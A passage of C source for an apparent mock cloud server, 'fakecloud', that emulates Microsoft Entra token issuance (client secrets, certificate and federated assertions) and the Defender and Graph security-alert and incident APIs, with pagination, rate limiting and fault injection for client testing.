			s->more = true;
			if (!od->count)
				break;
		}
	}
	s->total = m;
	if (!bycreated)
		return;
	qsort(all, nall, sizeof *all, alert_cmp_created);
	for (k = 0; k < nall; k++) {
		a = all[desc ? nall - 1 - k : k];
		if (k < od->skip)
			continue;
		if (s->n < od->top)
			s->v[s->n++] = a;
		else {
			s->more = true;
			break;
		}
	}
	s->total = nall;
	free(all);
}

/* "http://HOST" + path + the query without skip keys + extra. */
static void
next_link(struct buf *b, struct call *c, const struct query *q,
    const char *path, const char *extra, const char *to)
{
	const char	*host;
	char		*enc;
	size_t		 i;
	int		 first = 1;

	host = to != NULL && *to != '\0' ? to : evhttp_find_header(
	    evhttp_request_get_input_headers(c->req), "Host");
	buf_adds(b, "http://");
	if (host != NULL && *host != '\0' && strspn(host,
	    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	    ".:[]-") == strlen(host))
		buf_adds(b, host);
	else
		buf_addf(b, "127.0.0.1:%d", F.port);
	buf_adds(b, path);
	for (i = 0; i < q->n; i++) {
		if (strcasecmp(q->p[i].k, "$skip") == 0 ||
		    strcasecmp(q->p[i].k, "$skiptoken") == 0 ||
		    (strcasecmp(q->p[i].k, "$top") == 0 &&
		    strstr(extra, "$top=") != NULL))
			continue;
		enc = evhttp_uriencode(q->p[i].v, q->p[i].vlen, 0);
		buf_addf(b, "%c%s=%s", first ? '?' : '&', q->p[i].k, enc);
		free(enc);
		first = 0;
	}
	buf_addf(b, "%c%s", first ? '?' : '&', extra);
}

/*
 * Tokens.
 */

static void
token_sign(const char *data, size_t n, unsigned char mac[32])
{
	unsigned int	 len = 32;

	HMAC(EVP_sha256(), F.key, sizeof F.key, (const unsigned char *)data, n,
	    mac, &len);
}

static bool
aud_is_graph(const char *aud)
{
	return strstr(aud, "graph.microsoft") != NULL;
}

/* Issue a JWT-looking token signed with the process key. */
static void
token_issue(struct buf *tok, struct tenant *t, const char *aud, char *uti)
{
	struct buf	 p;
	unsigned char	 mac[32];
	char		 oid[37], jti[23];
	time_t		 now = time(NULL);
	static const char hdr[] =
	    "{\"typ\":\"JWT\",\"alg\":\"RS256\",\"kid\":\"fakecloud\"}";

	rng_uuid(&F.xrng, oid);
	rng_hex(&F.xrng, jti, 22);
	buf_init(&p);
	buf_adds(&p, "{\"aud\":");
	json_str(&p, aud);
	buf_addf(&p, ",\"iss\":\"https://sts.windows.net/%s/\",\"iat\":%lld,"
	    "\"nbf\":%lld,\"exp\":%lld,\"appid\":", t->name, (long long)now,
	    (long long)now, (long long)now + F.token_lifetime);
	json_str(&p, t->client_id);
	buf_addf(&p, ",\"appidacr\":\"1\",\"idp\":\"https://sts.windows.net/"
	    "%s/\",\"oid\":\"%s\",", t->name, oid);
	if (!t->no_roles)
		buf_addf(&p, "\"roles\":[\"%s\"],", aud_is_graph(aud) ?
		    "SecurityAlert.Read.All" : "Alert.Read.All");
	buf_addf(&p, "\"sub\":\"%s\",\"tid\":\"%s\",\"uti\":\"%s\","
	    "\"ver\":\"1.0\"}", oid, t->name, jti);
	b64u_enc(tok, hdr, sizeof hdr - 1);
	buf_addc(tok, '.');
	b64u_enc(tok, p.data, p.len);
	token_sign(tok->data, tok->len, mac);
	buf_addc(tok, '.');
	b64u_enc(tok, mac, sizeof mac);
	buf_clear(&p);
	snprintf(uti, 24, "%s", jti);
}

struct tokinfo {
	struct tenant	*t;
	char		 uti[24];
	bool		 graph;
	bool		 mde_role;
	bool		 graph_role;
};

/* Check a bearer token; an error message, or NULL when it is valid. */
static const char *
token_check(const char *tok, struct tokinfo *ti)
{
	const char	*d1, *d2, *r;
	unsigned char	 mac[32];
	struct buf	 sig, pl;
	json_t		*j, *v;
	const char	*err = NULL;
	size_t		 i;

	memset(ti, 0, sizeof *ti);
	if ((d1 = strchr(tok, '.')) == NULL || (d2 = strchr(d1 + 1, '.')) ==
	    NULL)
		return "The access token is malformed.";
	token_sign(tok, d2 - tok, mac);
	buf_init(&sig);
	b64u_enc(&sig, mac, sizeof mac);
	if (strlen(d2 + 1) != sig.len ||
	    CRYPTO_memcmp(d2 + 1, sig.data, sig.len) != 0) {
		buf_clear(&sig);
		return "The access token signature is invalid.";
	}
	buf_clear(&sig);
	buf_init(&pl);
	b64_dec(d1 + 1, d2 - d1 - 1, &pl);
	j = json_loadb(pl.data, pl.len, 0, NULL);
	buf_clear(&pl);
	if (j == NULL)
		return "The access token is malformed.";
	if ((v = json_object_get(j, "exp")) == NULL ||
	    json_integer_value(v) <= (json_int_t)time(NULL))
		err = "The access token has expired.";
	else if ((ti->t = tenant_find(json_string_value(json_object_get(j,
	    "tid")) ?: "")) == NULL)
		err = "The access token's tenant is unknown.";
	else {
		ti->graph = aud_is_graph(json_string_value(json_object_get(j,
		    "aud")) ?: "");
		snprintf(ti->uti, sizeof ti->uti, "%s",
		    json_string_value(json_object_get(j, "uti")) ?: "");
		json_array_foreach(json_object_get(j, "roles"), i, v) {
			r = json_string_value(v) ?: "";
			if (strncmp(r, "Alert.", 6) == 0)
				ti->mde_role = true;
			if (strncmp(r, "SecurityAlert.", 14) == 0)
				ti->graph_role = true;
		}
	}
	json_decref(j);
	return err;
}

/*
 * Handlers.
 */

/* The client-credentials form, from the body or HTTP Basic. */
struct form {
	const char	*grant;
	const char	*id;
	const char	*secret;
	const char	*scope;
	const char	*assertion;
	const char	*assertion_type;
	bool		 resource;
};

/*
 * Client assertions (certificate auth).  With --client-cert, an assertion
 * must name a registered certificate by "x5t" (RS256, SHA-1) or "x5t#S256"
 * (PS256), carry a valid signature by its key, aud = this token URL, iss =
 * sub = the client id, exp in the future, nbf not ahead, and a jti never
 * seen before.  Without --client-cert any JWT-shaped assertion passes.
 */
static struct {
	X509		**certs;
	size_t		  ncerts;
	char		**jtis;
	size_t		  njtis;
	const char	 *require_alg;	/* --require-alg: only this alg */
} AC;

/*
 * Federated credentials (workload identity federation).  With
 * --federated ISSUER,SUBJECT an assertion without x5t/x5t#S256 is an
 * external token: iss and sub must match, aud must be (or contain)
 * api://AzureADTokenExchange, exp in the future, nbf not ahead, and with
 * --federated-cert its RS256/PS256 signature must verify with that
 * certificate's key.  Unlike certificate assertions it may be used again
 * until it expires.
 */
#define FED_AUDIENCE	"api://AzureADTokenExchange"
static struct {
	char		*issuer;
	char		*subject;
	X509		*cert;
} FED;

static X509 *
cert_read(const char *path, const char *opt)
{
	FILE	*f;
	X509	*x = NULL;

	if ((f = fopen(path, "r")) != NULL) {
		x = PEM_read_X509(f, NULL, NULL, NULL);
		fclose(f);
	}
	if (x == NULL) {
		fprintf(stderr, "fakecloud: --%s %s: no PEM certificate\n",
		    opt, path);
		exit(64);
	}
	return x;
}

static void
federated_add(const char *arg)
{
	const char	*comma = strchr(arg, ',');

	if (comma == NULL || comma == arg || comma[1] == '\0') {
		fprintf(stderr, "fakecloud: --federated wants ISSUER,SUBJECT\n");
		exit(64);
	}
	free(FED.issuer);
	free(FED.subject);
	FED.issuer = xstrndup(arg, (size_t)(comma - arg));
	FED.subject = xstrdup(comma + 1);
}

static void
assertion_cert_add(const char *path)
{
	X509	*x = cert_read(path, "client-cert");

	AC.certs = xreallocarray(AC.certs, AC.ncerts + 1, sizeof *AC.certs);
	AC.certs[AC.ncerts++] = x;
}

static void
assertion_free(void)
{
	size_t	 i;

	for (i = 0; i < AC.ncerts; i++)
		X509_free(AC.certs[i]);
	for (i = 0; i < AC.njtis; i++)
		free(AC.jtis[i]);
	free(AC.certs);
	free(AC.jtis);
	X509_free(FED.cert);
	free(FED.issuer);
	free(FED.subject);
}

/* The registered certificate whose base64url md thumbprint is want. */
static X509 *
assertion_cert_find(const EVP_MD *md, const char *want)
{
	unsigned char	 d[EVP_MAX_MD_SIZE];
	unsigned int	 n;
	struct buf	 b;
	size_t		 i;
	X509		*found = NULL;

	buf_init(&b);
	for (i = 0; want != NULL && found == NULL && i < AC.ncerts; i++) {
		n = 0;
		if (X509_digest(AC.certs[i], md, d, &n) != 1)
			continue;
		buf_reset(&b);
		b64u_enc(&b, d, n);
		if (b.data != NULL && strcmp(b.data, want) == 0)
			found = AC.certs[i];
	}
	buf_clear(&b);
	return found;
}

static bool
assertion_sig_ok(X509 *x, bool pss, const char *data, size_t len,
    const struct buf *sig)
{
	EVP_MD_CTX	*ctx = EVP_MD_CTX_new();
	EVP_PKEY_CTX	*pctx = NULL;
	bool		 ok;

	ok = EVP_DigestVerifyInit(ctx, &pctx, EVP_sha256(), NULL,
	    X509_get0_pubkey(x)) == 1;
	if (ok && pss)
		ok = EVP_PKEY_CTX_set_rsa_padding(pctx,
		    RSA_PKCS1_PSS_PADDING) == 1 &&
		    EVP_PKEY_CTX_set_rsa_pss_saltlen(pctx,
		    RSA_PSS_SALTLEN_DIGEST) == 1;
	ok = ok && sig->data != NULL && EVP_DigestVerify(ctx,
	    (const unsigned char *)sig->data, sig->len,
	    (const unsigned char *)data, len) == 1;
	EVP_MD_CTX_free(ctx);
	ERR_clear_error();
	return ok;
}

/* Decode one base64url part of a JWT as a JSON object, or NULL. */
static json_t *
assertion_json(const char *s, size_t n)
{
	struct buf	 b;
	json_t		*j = NULL;

	buf_init(&b);
	if (b64_dec(s, n, &b) == 0 && b.data != NULL)
		j = json_loadb(b.data, b.len, JSON_REJECT_DUPLICATES, NULL);
	buf_clear(&b);
	if (j != NULL && !json_is_object(j)) {
		json_decref(j);
		j = NULL;
	}
	return j;
}

/* Check the claims of a correctly signed assertion. */
static const char *
assertion_claims(struct call *c, json_t *cl, const char *client_id,
    long *code)
{
	static char	 why[600];
	const char	*host, *aud, *jti;
	json_int_t	 now = (json_int_t)time(NULL);
	size_t		 i;

	host = evhttp_find_header(evhttp_request_get_input_headers(c->req),
	    "Host");
	snprintf(why, sizeof why, "http://%s%s", host ? host : "",
	    evhttp_request_get_uri(c->req));
	aud = json_string_value(json_object_get(cl, "aud"));
	if (aud == NULL || strcmp(aud, why) != 0) {
		snprintf(why, sizeof why, "The audience claim '%s' of the "
		    "client assertion is not this token endpoint.",
		    aud ? aud : "");
		return why;
	}
	if (!json_is_string(json_object_get(cl, "iss")) ||
	    !json_is_string(json_object_get(cl, "sub")) ||
	    strcmp(json_string_value(json_object_get(cl, "iss")),
	    client_id) != 0 || strcmp(json_string_value(json_object_get(cl,
	    "sub")), client_id) != 0)
		return "The iss and sub claims of the client assertion must "
		    "be the client id.";
	if (!json_is_integer(json_object_get(cl, "exp")) ||
	    json_integer_value(json_object_get(cl, "exp")) <= now ||
	    json_integer_value(json_object_get(cl, "nbf")) > now + 300) {
		*code = 700024;
		return "Client assertion is not within its valid time range.";
	}
	if ((jti = json_string_value(json_object_get(cl, "jti"))) == NULL ||
	    *jti == '\0')
		return "The client assertion has no jti claim.";
	for (i = 0; i < AC.njtis; i++)
		if (strcmp(AC.jtis[i], jti) == 0)
			return "The client assertion's jti has been used "
			    "before (replay).";
	AC.jtis = xreallocarray(AC.jtis, AC.njtis + 1, sizeof *AC.jtis);
	AC.jtis[AC.njtis++] = xstrdup(jti);
	return NULL;
}

/* Why the assertion a is not acceptable, or NULL; code is its AADSTS. */
static const char *
assertion_check(struct call *c, const char *a, const char *client_id,
    long *code)
{
	static char	 why[600];
	const char	*d1 = strchr(a, '.'), *d2, *alg, *err = NULL;
	json_t		*h = NULL, *cl = NULL;
	struct buf	 sig;
	X509		*x = NULL;
	bool		 pss;

	*code = 700027;
	if (d1 == NULL || (d2 = strchr(d1 + 1, '.')) == NULL ||
	    (h = assertion_json(a, (size_t)(d1 - a))) == NULL ||
	    (cl = assertion_json(d1 + 1, (size_t)(d2 - d1 - 1))) == NULL) {
		json_decref(h);
		return "Client assertion is not a valid JWT.";
	}
	alg = json_string_value(json_object_get(h, "alg"));
	pss = alg != NULL && strcmp(alg, "PS256") == 0;
	if (alg == NULL || (!pss && strcmp(alg, "RS256") != 0))
		err = "Client assertion has an unsupported alg.";
	else if ((x = assertion_cert_find(pss ? EVP_sha256() : EVP_sha1(),
	    json_string_value(json_object_get(h, pss ? "x5t#S256" :
	    "x5t")))) == NULL) {
		snprintf(why, sizeof why, "The certificate with identifier "
		    "used to sign the client assertion is not registered on "
		    "application. [Reason - The key was not found., "
		    "Thumbprint of key used by client: '%s']",
		    json_string_value(json_object_get(h, pss ? "x5t#S256" :
		    "x5t")) ?: "");
		err = why;
	} else {
		buf_init(&sig);
		if (b64_dec(d2 + 1, strlen(d2 + 1), &sig) != 0 ||
		    !assertion_sig_ok(x, pss, a, (size_t)(d2 - a), &sig))
			err = "Client assertion failed signature validation.";
		buf_clear(&sig);
		if (err == NULL)
			err = assertion_claims(c, cl, client_id, code);
	}
	json_decref(h);
	json_decref(cl);
	return err;
}

/* Is a (a JWT) an external token rather than a certificate assertion? */
static bool
assertion_federated(const char *a)
{
	const char	*d1 = strchr(a, '.');
	json_t		*h;
	bool		 fed;

	if (FED.issuer == NULL || d1 == NULL ||
	    (h = assertion_json(a, (size_t)(d1 - a))) == NULL)
		return false;
	fed = json_object_get(h, "x5t") == NULL &&
	    json_object_get(h, "x5t#S256") == NULL;
	json_decref(h);
	return fed;
}

/* Does aud (a string or an array of strings) hold want? */
static bool
aud_has(json_t *aud, const char *want)
{
	size_t	 i;

	if (json_is_string(aud))
		return strcmp(json_string_value(aud), want) == 0;
	for (i = 0; json_is_array(aud) && i < json_array_size(aud); i++)
		if (json_is_string(json_array_get(aud, i)) && strcmp(
		    json_string_value(json_array_get(aud, i)), want) == 0)
			return true;
	return false;
}

/* The claims of a federated assertion; why not, or NULL. */
static const char *
federated_claims(json_t *cl, long *code)
{
	static char	 why[600];
	const char	*iss = json_string_value(json_object_get(cl, "iss"));
	const char	*sub = json_string_value(json_object_get(cl, "sub"));
	json_int_t	 now = (json_int_t)time(NULL);

	if (iss == NULL || strcmp(iss, FED.issuer) != 0) {
		*code = 700211;
		snprintf(why, sizeof why, "No matching federated identity "
		    "record found for presented assertion issuer '%s'.",
		    iss ? iss : "");
		return why;
	}
	if (sub == NULL || strcmp(sub, FED.subject) != 0) {
		*code = 700213;
		snprintf(why, sizeof why, "No matching federated identity "
		    "record found for presented assertion subject '%s'.",
		    sub ? sub : "");
		return why;
	}
	if (!aud_has(json_object_get(cl, "aud"), FED_AUDIENCE)) {
		*code = 700212;
		return "No matching federated identity record found for "
		    "presented assertion audience.";
	}
	if (!json_is_integer(json_object_get(cl, "exp")) ||
	    json_integer_value(json_object_get(cl, "exp")) <= now ||
	    json_integer_value(json_object_get(cl, "nbf")) > now + 300) {
		*code = 700024;
		return "Client assertion is not within its valid time range.";
	}
	return NULL;
}

/* Why the external token a is not acceptable, or NULL. */
static const char *
federated_check(const char *a, long *code)
{
	const char	*d1 = strchr(a, '.'), *d2, *alg, *err;
	json_t		*h = NULL, *cl = NULL;
	struct buf	 sig;
	bool		 pss;

	*code = 700027;
	if (d1 == NULL || (d2 = strchr(d1 + 1, '.')) == NULL ||
	    (h = assertion_json(a, (size_t)(d1 - a))) == NULL ||
	    (cl = assertion_json(d1 + 1, (size_t)(d2 - d1 - 1))) == NULL) {
		json_decref(h);
		return "Client assertion is not a valid JWT.";
	}
	alg = json_string_value(json_object_get(h, "alg"));
	pss = alg != NULL && strcmp(alg, "PS256") == 0;
	err = NULL;
	if (alg == NULL || (!pss && strcmp(alg, "RS256") != 0))
		err = "Client assertion has an unsupported alg.";
	else if (FED.cert != NULL) {
		buf_init(&sig);
		if (b64_dec(d2 + 1, strlen(d2 + 1), &sig) != 0 ||
		    !assertion_sig_ok(FED.cert, pss, a, (size_t)(d2 - a), &sig))
			err = "Client assertion failed signature validation.";
		buf_clear(&sig);
	}
	if (err == NULL)
		err = federated_claims(cl, code);
	json_decref(h);
	json_decref(cl);
	return err;
}

/* --require-alg: the alg of a certificate assertion must be this one. */
static bool
assertion_alg_ok(const char *a)
{
	const char	*d1 = strchr(a, '.');
	json_t		*h;
	bool		 ok;

	if (AC.require_alg == NULL)
		return true;
	if (d1 == NULL || (h = assertion_json(a, (size_t)(d1 - a))) == NULL)
		return false;
	ok = json_is_string(json_object_get(h, "alg")) && strcmp(
	    json_string_value(json_object_get(h, "alg")), AC.require_alg) ==
	    0;
	json_decref(h);
	return ok;
}

/* Send the Entra error a bad request earns; false when it is good. */
static bool
token_reject(struct call *c, struct tenant *t, const struct form *f)
{
	const char	*a = f->assertion, *jwt =
	    "urn:ietf:params:oauth:client-assertion-type:jwt-bearer";
	const char	*why;
	long		 code;
	size_t		 sl = f->scope ? strlen(f->scope) : 0;
	bool		 fed = a != NULL && assertion_federated(a);

	if (f->grant == NULL || f->id == NULL || f->scope == NULL)
		reply_entra_error(c, 400, "invalid_request", 900144, "The "
		    "request body must contain the following parameter: "
		    "'%s'.", f->grant == NULL ? "grant_type" : f->id == NULL ?
		    "client_id" : "scope");
	else if (strcmp(f->grant, "client_credentials") != 0)
		reply_entra_error(c, 400, "unsupported_grant_type", 70003,
		    "The app requested an unsupported grant type '%s'.",
		    f->grant);
	else if (f->resource)
		reply_entra_error(c, 400, "invalid_request", 901002, "The "
		    "'resource' request parameter is not supported.");
	else if (strchr(f->scope, ' ') != NULL)
		reply_entra_error(c, 400, "invalid_scope", 700022, "The "
		    "provided value for the input parameter scope is not "
		    "valid because it contains more than one resource. Scope "
		    "%s is not valid.", f->scope);
	else if (sl < 10 || strcmp(f->scope + sl - 9, "/.default") != 0)
		reply_entra_error(c, 400, "invalid_scope", 70011, "The "
		    "provided value for the input parameter 'scope' is not "
		    "valid. The scope %s is not valid.", f->scope);
	else if (t->unconsented || strcmp(f->id, t->client_id) != 0)
		reply_entra_error(c, 400, "unauthorized_client", 700016,
		    "Application with identifier '%s' was not found in the "
		    "directory '%s'. This can happen if the application has "
		    "not been installed by the administrator of the tenant or "
		    "consented to by any user in the tenant. You may have sent "
		    "your authentication request to the wrong tenant.", f->id,
		    t->name);
	else if (a != NULL && (strchr(a, '.') == NULL ||
	    f->assertion_type == NULL || strcmp(f->assertion_type, jwt) != 0))
		reply_entra_error(c, 401, "invalid_client", 700027, "Client "
		    "assertion failed signature validation.");
	else if (fed && (why = federated_check(a, &code)) != NULL)
		reply_entra_error(c, 401, "invalid_client", code, "%s", why);
	else if (a != NULL && !fed && !assertion_alg_ok(a))
		reply_entra_error(c, 401, "invalid_client", 700027, "Client "
		    "assertion has an unsupported alg (this application "
		    "requires %s).", AC.require_alg);
	else if (a != NULL && !fed && AC.ncerts > 0 &&
	    (why = assertion_check(c, a, f->id, &code)) != NULL)
		reply_entra_error(c, 401, "invalid_client", code, "%s", why);
	else if (a == NULL && f->secret == NULL)
		reply_entra_error(c, 401, "invalid_client", 7000218, "The "
		    "request body must contain the following parameter: "
		    "'client_assertion' or 'client_secret'.");
	else if (a == NULL && strcmp(f->secret, t->secret) != 0)
		reply_entra_error(c, 401, "invalid_client", 7000215, "Invalid "
		    "client secret provided. Ensure the secret being sent in "
		    "the request is the client secret value, not the client "
		    "secret ID, for a secret added to app '%s'.", f->id);
	else if (a == NULL && t->expired_secret)
		reply_entra_error(c, 401, "invalid_client", 7000222, "The "
		    "provided client secret keys for app '%s' are expired. "
		    "Visit the Azure portal to create new keys for your app: "
		    "https://aka.ms/NewClientSecret, or consider using "
		    "certificate credentials for added security: "
		    "https://aka.ms/certCreds.", f->id);
	else
		return false;
	return true;
}

/* Answer a good request with a token for the scope's resource. */
static void
token_grant(struct call *c, struct tenant *t, const char *scope)
{
	struct buf	 tok, aud, out;
	const char	*q = t->string_expiry ? "\"" : "";

	buf_init(&tok);
	buf_init(&aud);
	buf_init(&out);
	buf_add(&aud, scope, strlen(scope) - 9);
	token_issue(&tok, t, aud.data, c->uti);
	token_log_add(tok.data);
	buf_addf(&out, "{\"token_type\":\"Bearer\",\"expires_in\":%s%d%s,"
	    "\"ext_expires_in\":%s%d%s,\"access_token\":\"%s\"}", q,
	    F.token_lifetime, q, q, F.token_lifetime, q, tok.data);
	log_debug("token for %s, audience %s", t->name, aud.data);
	buf_clear(&tok);
	buf_clear(&aud);
	reply(c, 200, buf_to_evbuffer(&out));
}

/* POST /{tenant}/oauth2/v2.0/token */
static void
token_cb(struct call *c, const char *tname)
{
	struct evbuffer	*in = evhttp_request_get_input_buffer(c->req);
	struct tenant	*t;
	struct query	 q;
	struct form	 f;
	struct buf	 basic;
	const char	*auth;
	char		*colon;

	F.token_requests++;
	c->api = API_TOKEN;
	if ((t = tenant_find(tname)) == NULL) {
		reply_entra_error(c, 400, "invalid_request", 90002, "Tenant "
		    "'%s' not found. Check to make sure you have the correct "
		    "tenant ID and are signing into the correct cloud.", tname);
		return;
	}
	c->t = t;
	t->token_requests++;
	if (faults_apply(c, &t->tok))
		return;
	if (evhttp_request_get_command(c->req) != EVHTTP_REQ_POST) {
		reply_entra_error(c, 400, "invalid_request", 900561, "The "
		    "endpoint only accepts POST requests. Received a %s "
		    "request.", method_name(c->req));
		return;
	}
	if (query_parse((const char *)evbuffer_pullup(in, -1),
	    evbuffer_get_length(in), &q) != 0) {
		query_clear(&q);
		reply_entra_error(c, 400, "invalid_request", 90014, "The "
		    "request body has too many parameters.");
		return;
	}
	f.grant = query_get(&q, "grant_type");
	f.id = query_get(&q, "client_id");
	f.secret = query_get(&q, "client_secret");
	f.scope = query_get(&q, "scope");
	f.assertion = query_get(&q, "client_assertion");
	f.assertion_type = query_get(&q, "client_assertion_type");
	f.resource = query_get(&q, "resource") != NULL;
	buf_init(&basic);
	auth = evhttp_find_header(evhttp_request_get_input_headers(c->req),
	    "Authorization");
	if (auth != NULL && strncasecmp(auth, "Basic ", 6) == 0 &&
	    b64_dec(auth + 6, strlen(auth + 6), &basic) == 0 &&
	    basic.len > 0 && (colon = strchr(basic.data, ':')) != NULL) {
		*colon = '\0';
		if (f.id == NULL)
			f.id = basic.data;
		if (f.secret == NULL)
			f.secret = colon + 1;
	}
	if (!token_reject(c, t, &f))
		token_grant(c, t, f.scope);
	query_clear(&q);
	secret_free(basic.data);
}

/*
 * Authenticate an API call, then apply faults, rate limits and roles.
 * Returns the tenant, or NULL when a reply was already sent.
 */
static struct tenant *
api_enter(struct call *c)
{
	struct tokinfo	 ti;
	struct tenant	*t;
	const char	*auth, *err;
	int64_t		 now, w;
	bool		 graph = c->api == API_GRAPH;

	F.api_requests++;
	auth = evhttp_find_header(evhttp_request_get_input_headers(c->req),
	    "Authorization");
	if (auth == NULL || strncasecmp(auth, "Bearer ", 7) != 0)
		err = "Authorization header is missing or not a Bearer token.";
	else
		err = token_check(auth + 7, &ti);
	if (err != NULL) {
		evhttp_add_header(evhttp_request_get_output_headers(c->req),
		    "WWW-Authenticate", "Bearer");
		reply_error(c, 401, graph ? "InvalidAuthenticationToken" :
		    "Unauthorized", err);
		return NULL;
	}
	c->t = t = ti.t;
	snprintf(c->uti, sizeof c->uti, "%s", ti.uti);
	t->requests++;
	if (faults_apply(c, &t->api))
		return NULL;
	now = mono_ms();
	if (graph)
		w = ring_wait(&t->rl_graph, now, 60000);
	else if ((w = ring_wait(&t->rl_min, now, 60000)) == 0)
		w = ring_wait(&t->rl_hour, now, 3600000);
	if (w > 0) {
		reply_429(c, w);
		return NULL;
	}
	ring_push(graph ? &t->rl_graph : &t->rl_min, now);
	if (!graph)
		ring_push(&t->rl_hour, now);
	if (graph && !ti.graph) {
		reply_error(c, 401, "InvalidAuthenticationToken",
		    "Access token validation failure. Invalid audience.");
		return NULL;
	}
	if (!graph && ti.graph) {
		reply_error(c, 403, "Forbidden", "The access token audience is "
		    "not valid for this API.");
		return NULL;
	}
	if (graph ? !ti.graph_role : !ti.mde_role) {
		reply_error(c, 403, "Forbidden", graph ? "Missing application "
		    "roles. API required roles: SecurityAlert.Read.All,"
		    "SecurityAlert.ReadWrite.All, application roles: ." :
		    "The application does not have any of the required "
		    "application permissions (Alert.ReadWrite.All, "
		    "Alert.Read.All) to access the resource.");
		return NULL;
	}
	return t;
}

/* Append one alert's MDE JSON, with or without evidence. */
static void
emit_mde(struct evbuffer *out, const struct alert *a, bool expand)
{
	if (expand) {
		evbuffer_add(out, a->json, a->len);
		return;
	}
	evbuffer_add(out, a->json, a->ev_off);
	evbuffer_add(out, "[]", 2);
	evbuffer_add(out, a->json + a->ev_end, a->len - a->ev_end);
}

/* GET /api/alerts/{id} */
static void
mde_get_cb(struct call *c, struct tenant *t, const char *id,
    const struct query *q)
{
	struct evbuffer	*out, *one;
	struct alert	*a;
	struct odata	 od;
	char		 err[512];

	if (odata_parse(q, API_MDE, &od, err, sizeof err) != NULL) {
		reply_error(c, 400, "ODataError", err);
		return;
	}
	if ((a = alert_find(t, id)) == NULL) {
		snprintf(err, sizeof err, "Alert %s was not found", id);
		reply_error(c, 404, "ResourceNotFound", err);
		return;
	}
	/* The entity's members follow the context, without its own '{'. */
	one = evbuffer_new();
	emit_mde(one, a, od.expand);
	evbuffer_drain(one, 1);
	out = evbuffer_new();
	evbuffer_add_printf(out, "{\"@odata.context\":\"%s/$entity\",",
	    MDE_CONTEXT);
	evbuffer_add_buffer(out, one);
	evbuffer_free(one);
	reply(c, 200, out);
}

/* GET /api/alerts and /api/v1.0/alerts */
static void
mde_list_cb(struct call *c, const char *path, const struct query *q,
    const char *id)
{
	struct tenant	*t;
	struct evbuffer	*out;
	struct odata	 od;
	struct sel	 s;
	struct buf	 link, j;
	char		 err[512], extra[64];
	size_t		 i, total = 0;
	bool		 cut = false;

	c->api = API_MDE;
	if ((t = api_enter(c)) == NULL)
		return;
	if (id != NULL) {
		mde_get_cb(c, t, id, q);
		return;
	}
	if (odata_parse(q, API_MDE, &od, err, sizeof err) != NULL) {
		reply_error(c, 400, "ODataError", err);
		return;
	}
	select_alerts(t, &od, &s);
	/*
	 * --link-page: the answer to $top comes as pages of N linked by
	 * nextLink, and the chain ends after $top alerts (whatever more
	 * there is): a short last page is not the end of the data.
	 */
	if (F.link_page > 0 && s.n > F.link_page) {
		s.n = F.link_page;
		cut = true;
	}
	for (i = 0; i < s.n; i++)
		total += od.expand ? s.v[i]->len : s.v[i]->len -
		    (s.v[i]->ev_end - s.v[i]->ev_off) + 2;
	out = evbuffer_new();
	evbuffer_expand(out, total + s.n + 1024);
	evbuffer_add_printf(out, "{\"@odata.context\":\"%s\",\"value\":[",
	    MDE_CONTEXT);
	for (i = 0; i < s.n; i++) {
		if (i > 0)
			evbuffer_add(out, ",", 1);
		emit_mde(out, s.v[i], od.expand);
	}
	evbuffer_add(out, "]", 1);
	if (cut || (F.nextlink && s.more) || t->api.link_to[0] != '\0') {
		buf_init(&link);
		if (cut)
			snprintf(extra, sizeof extra, "$skip=%zu&$top=%zu",
			    od.skip + s.n, od.top - s.n);
		else
			snprintf(extra, sizeof extra, "$skip=%zu",
			    od.skip + od.top);
		next_link(&link, c, q, path, extra, t->api.link_to);
		buf_init(&j);
		json_strn(&j, link.data, link.len);
		evbuffer_add(out, ",\"@odata.nextLink\":", 19);
		evbuffer_add(out, j.data, j.len);
		buf_clear(&j);
		buf_clear(&link);
	}
	evbuffer_add(out, "}", 1);
	free(s.v);
	reply(c, 200, out);
}

/* GET /v1.0/security/alerts_v2 */
static void
graph_list_cb(struct call *c, const char *path, const struct query *q)
{
	struct tenant	*t;
	struct evbuffer	*out;
	struct odata	 od;
	struct sel	 s;
	struct buf	 link, tokb, j;
	char		 err[512], tok[64], *extra;
	const char	*h;
	size_t		 i;
	bool		 prefer;

	c->api = API_GRAPH;
	if ((t = api_enter(c)) == NULL)
		return;
	h = evhttp_find_header(evhttp_request_get_input_headers(c->req),
	    "Prefer");
	prefer = h != NULL && strstr(h, "include-unknown-enum-members") !=
	    NULL;
	if (odata_parse(q, API_GRAPH, &od, err, sizeof err) != NULL) {
		reply_error(c, 400, "BadRequest", err);
		return;
	}
	if (od.snap == 0)
		od.snap = F.seq;
	select_alerts(t, &od, &s);
	out = evbuffer_new();
	evbuffer_add_printf(out, "{\"@odata.context\":\"%s\"", GRAPH_CONTEXT);
	if (od.count)
		evbuffer_add_printf(out, ",\"@odata.count\":%zu", s.total);
	if (s.more) {
		snprintf(tok, sizeof tok, "fc1:%zu:%llu", od.skip + od.top,
		    (unsigned long long)od.snap);
		buf_init(&tokb);
		b64u_enc(&tokb, tok, strlen(tok));
		xasprintf(&extra, "$skiptoken=%.*s", (int)tokb.len, tokb.data);
		buf_init(&link);
		next_link(&link, c, q, path, extra, NULL);
		buf_init(&j);
		json_strn(&j, link.data, link.len);
		evbuffer_add(out, ",\"@odata.nextLink\":", 19);
		evbuffer_add(out, j.data, j.len);
		buf_clear(&j);
		buf_clear(&link);
		buf_clear(&tokb);
		free(extra);
	}
	evbuffer_add(out, ",\"value\":[", 10);
	for (i = 0; i < s.n; i++) {
		if (i > 0)
			evbuffer_add(out, ",", 1);
		render_graph(s.v[i]);
		if (!prefer && s.v[i]->graph_np != NULL)
			evbuffer_add(out, s.v[i]->graph_np,
			    s.v[i]->glen_np);
		else
			evbuffer_add(out, s.v[i]->graph, s.v[i]->glen);
	}
	evbuffer_add(out, "]}", 2);
	free(s.v);
	reply(c, 200, out);
}

/*
 * Graph incidents.  POST /_control/incidents makes them (each over up to
 * three of the tenant's alerts), /_control/incident-update gives one a new
 * version (status moves on; with into=M it is merged into M: status
 * resolved, redirectIncidentId M).  GET /v1.0/security/incidents: $filter
 * on lastUpdateDateTime/createdDateTime, $top at most 50 (more -> 400),
 * $orderby lastUpdateDateTime asc, $expand=alerts, and @odata.nextLink
 * with $skiptoken when more remain.  GET .../incidents/{id}/alerts lists
 * an incident's alerts (the fallback when $expand fails: fault
 * expand-500).
 */
#define INC_TOP_MAX	50
static const char *inc_status[] = { "active", "inProgress", "resolved" };

static void
inc_version(struct tenant *t, struct finc *in)
{
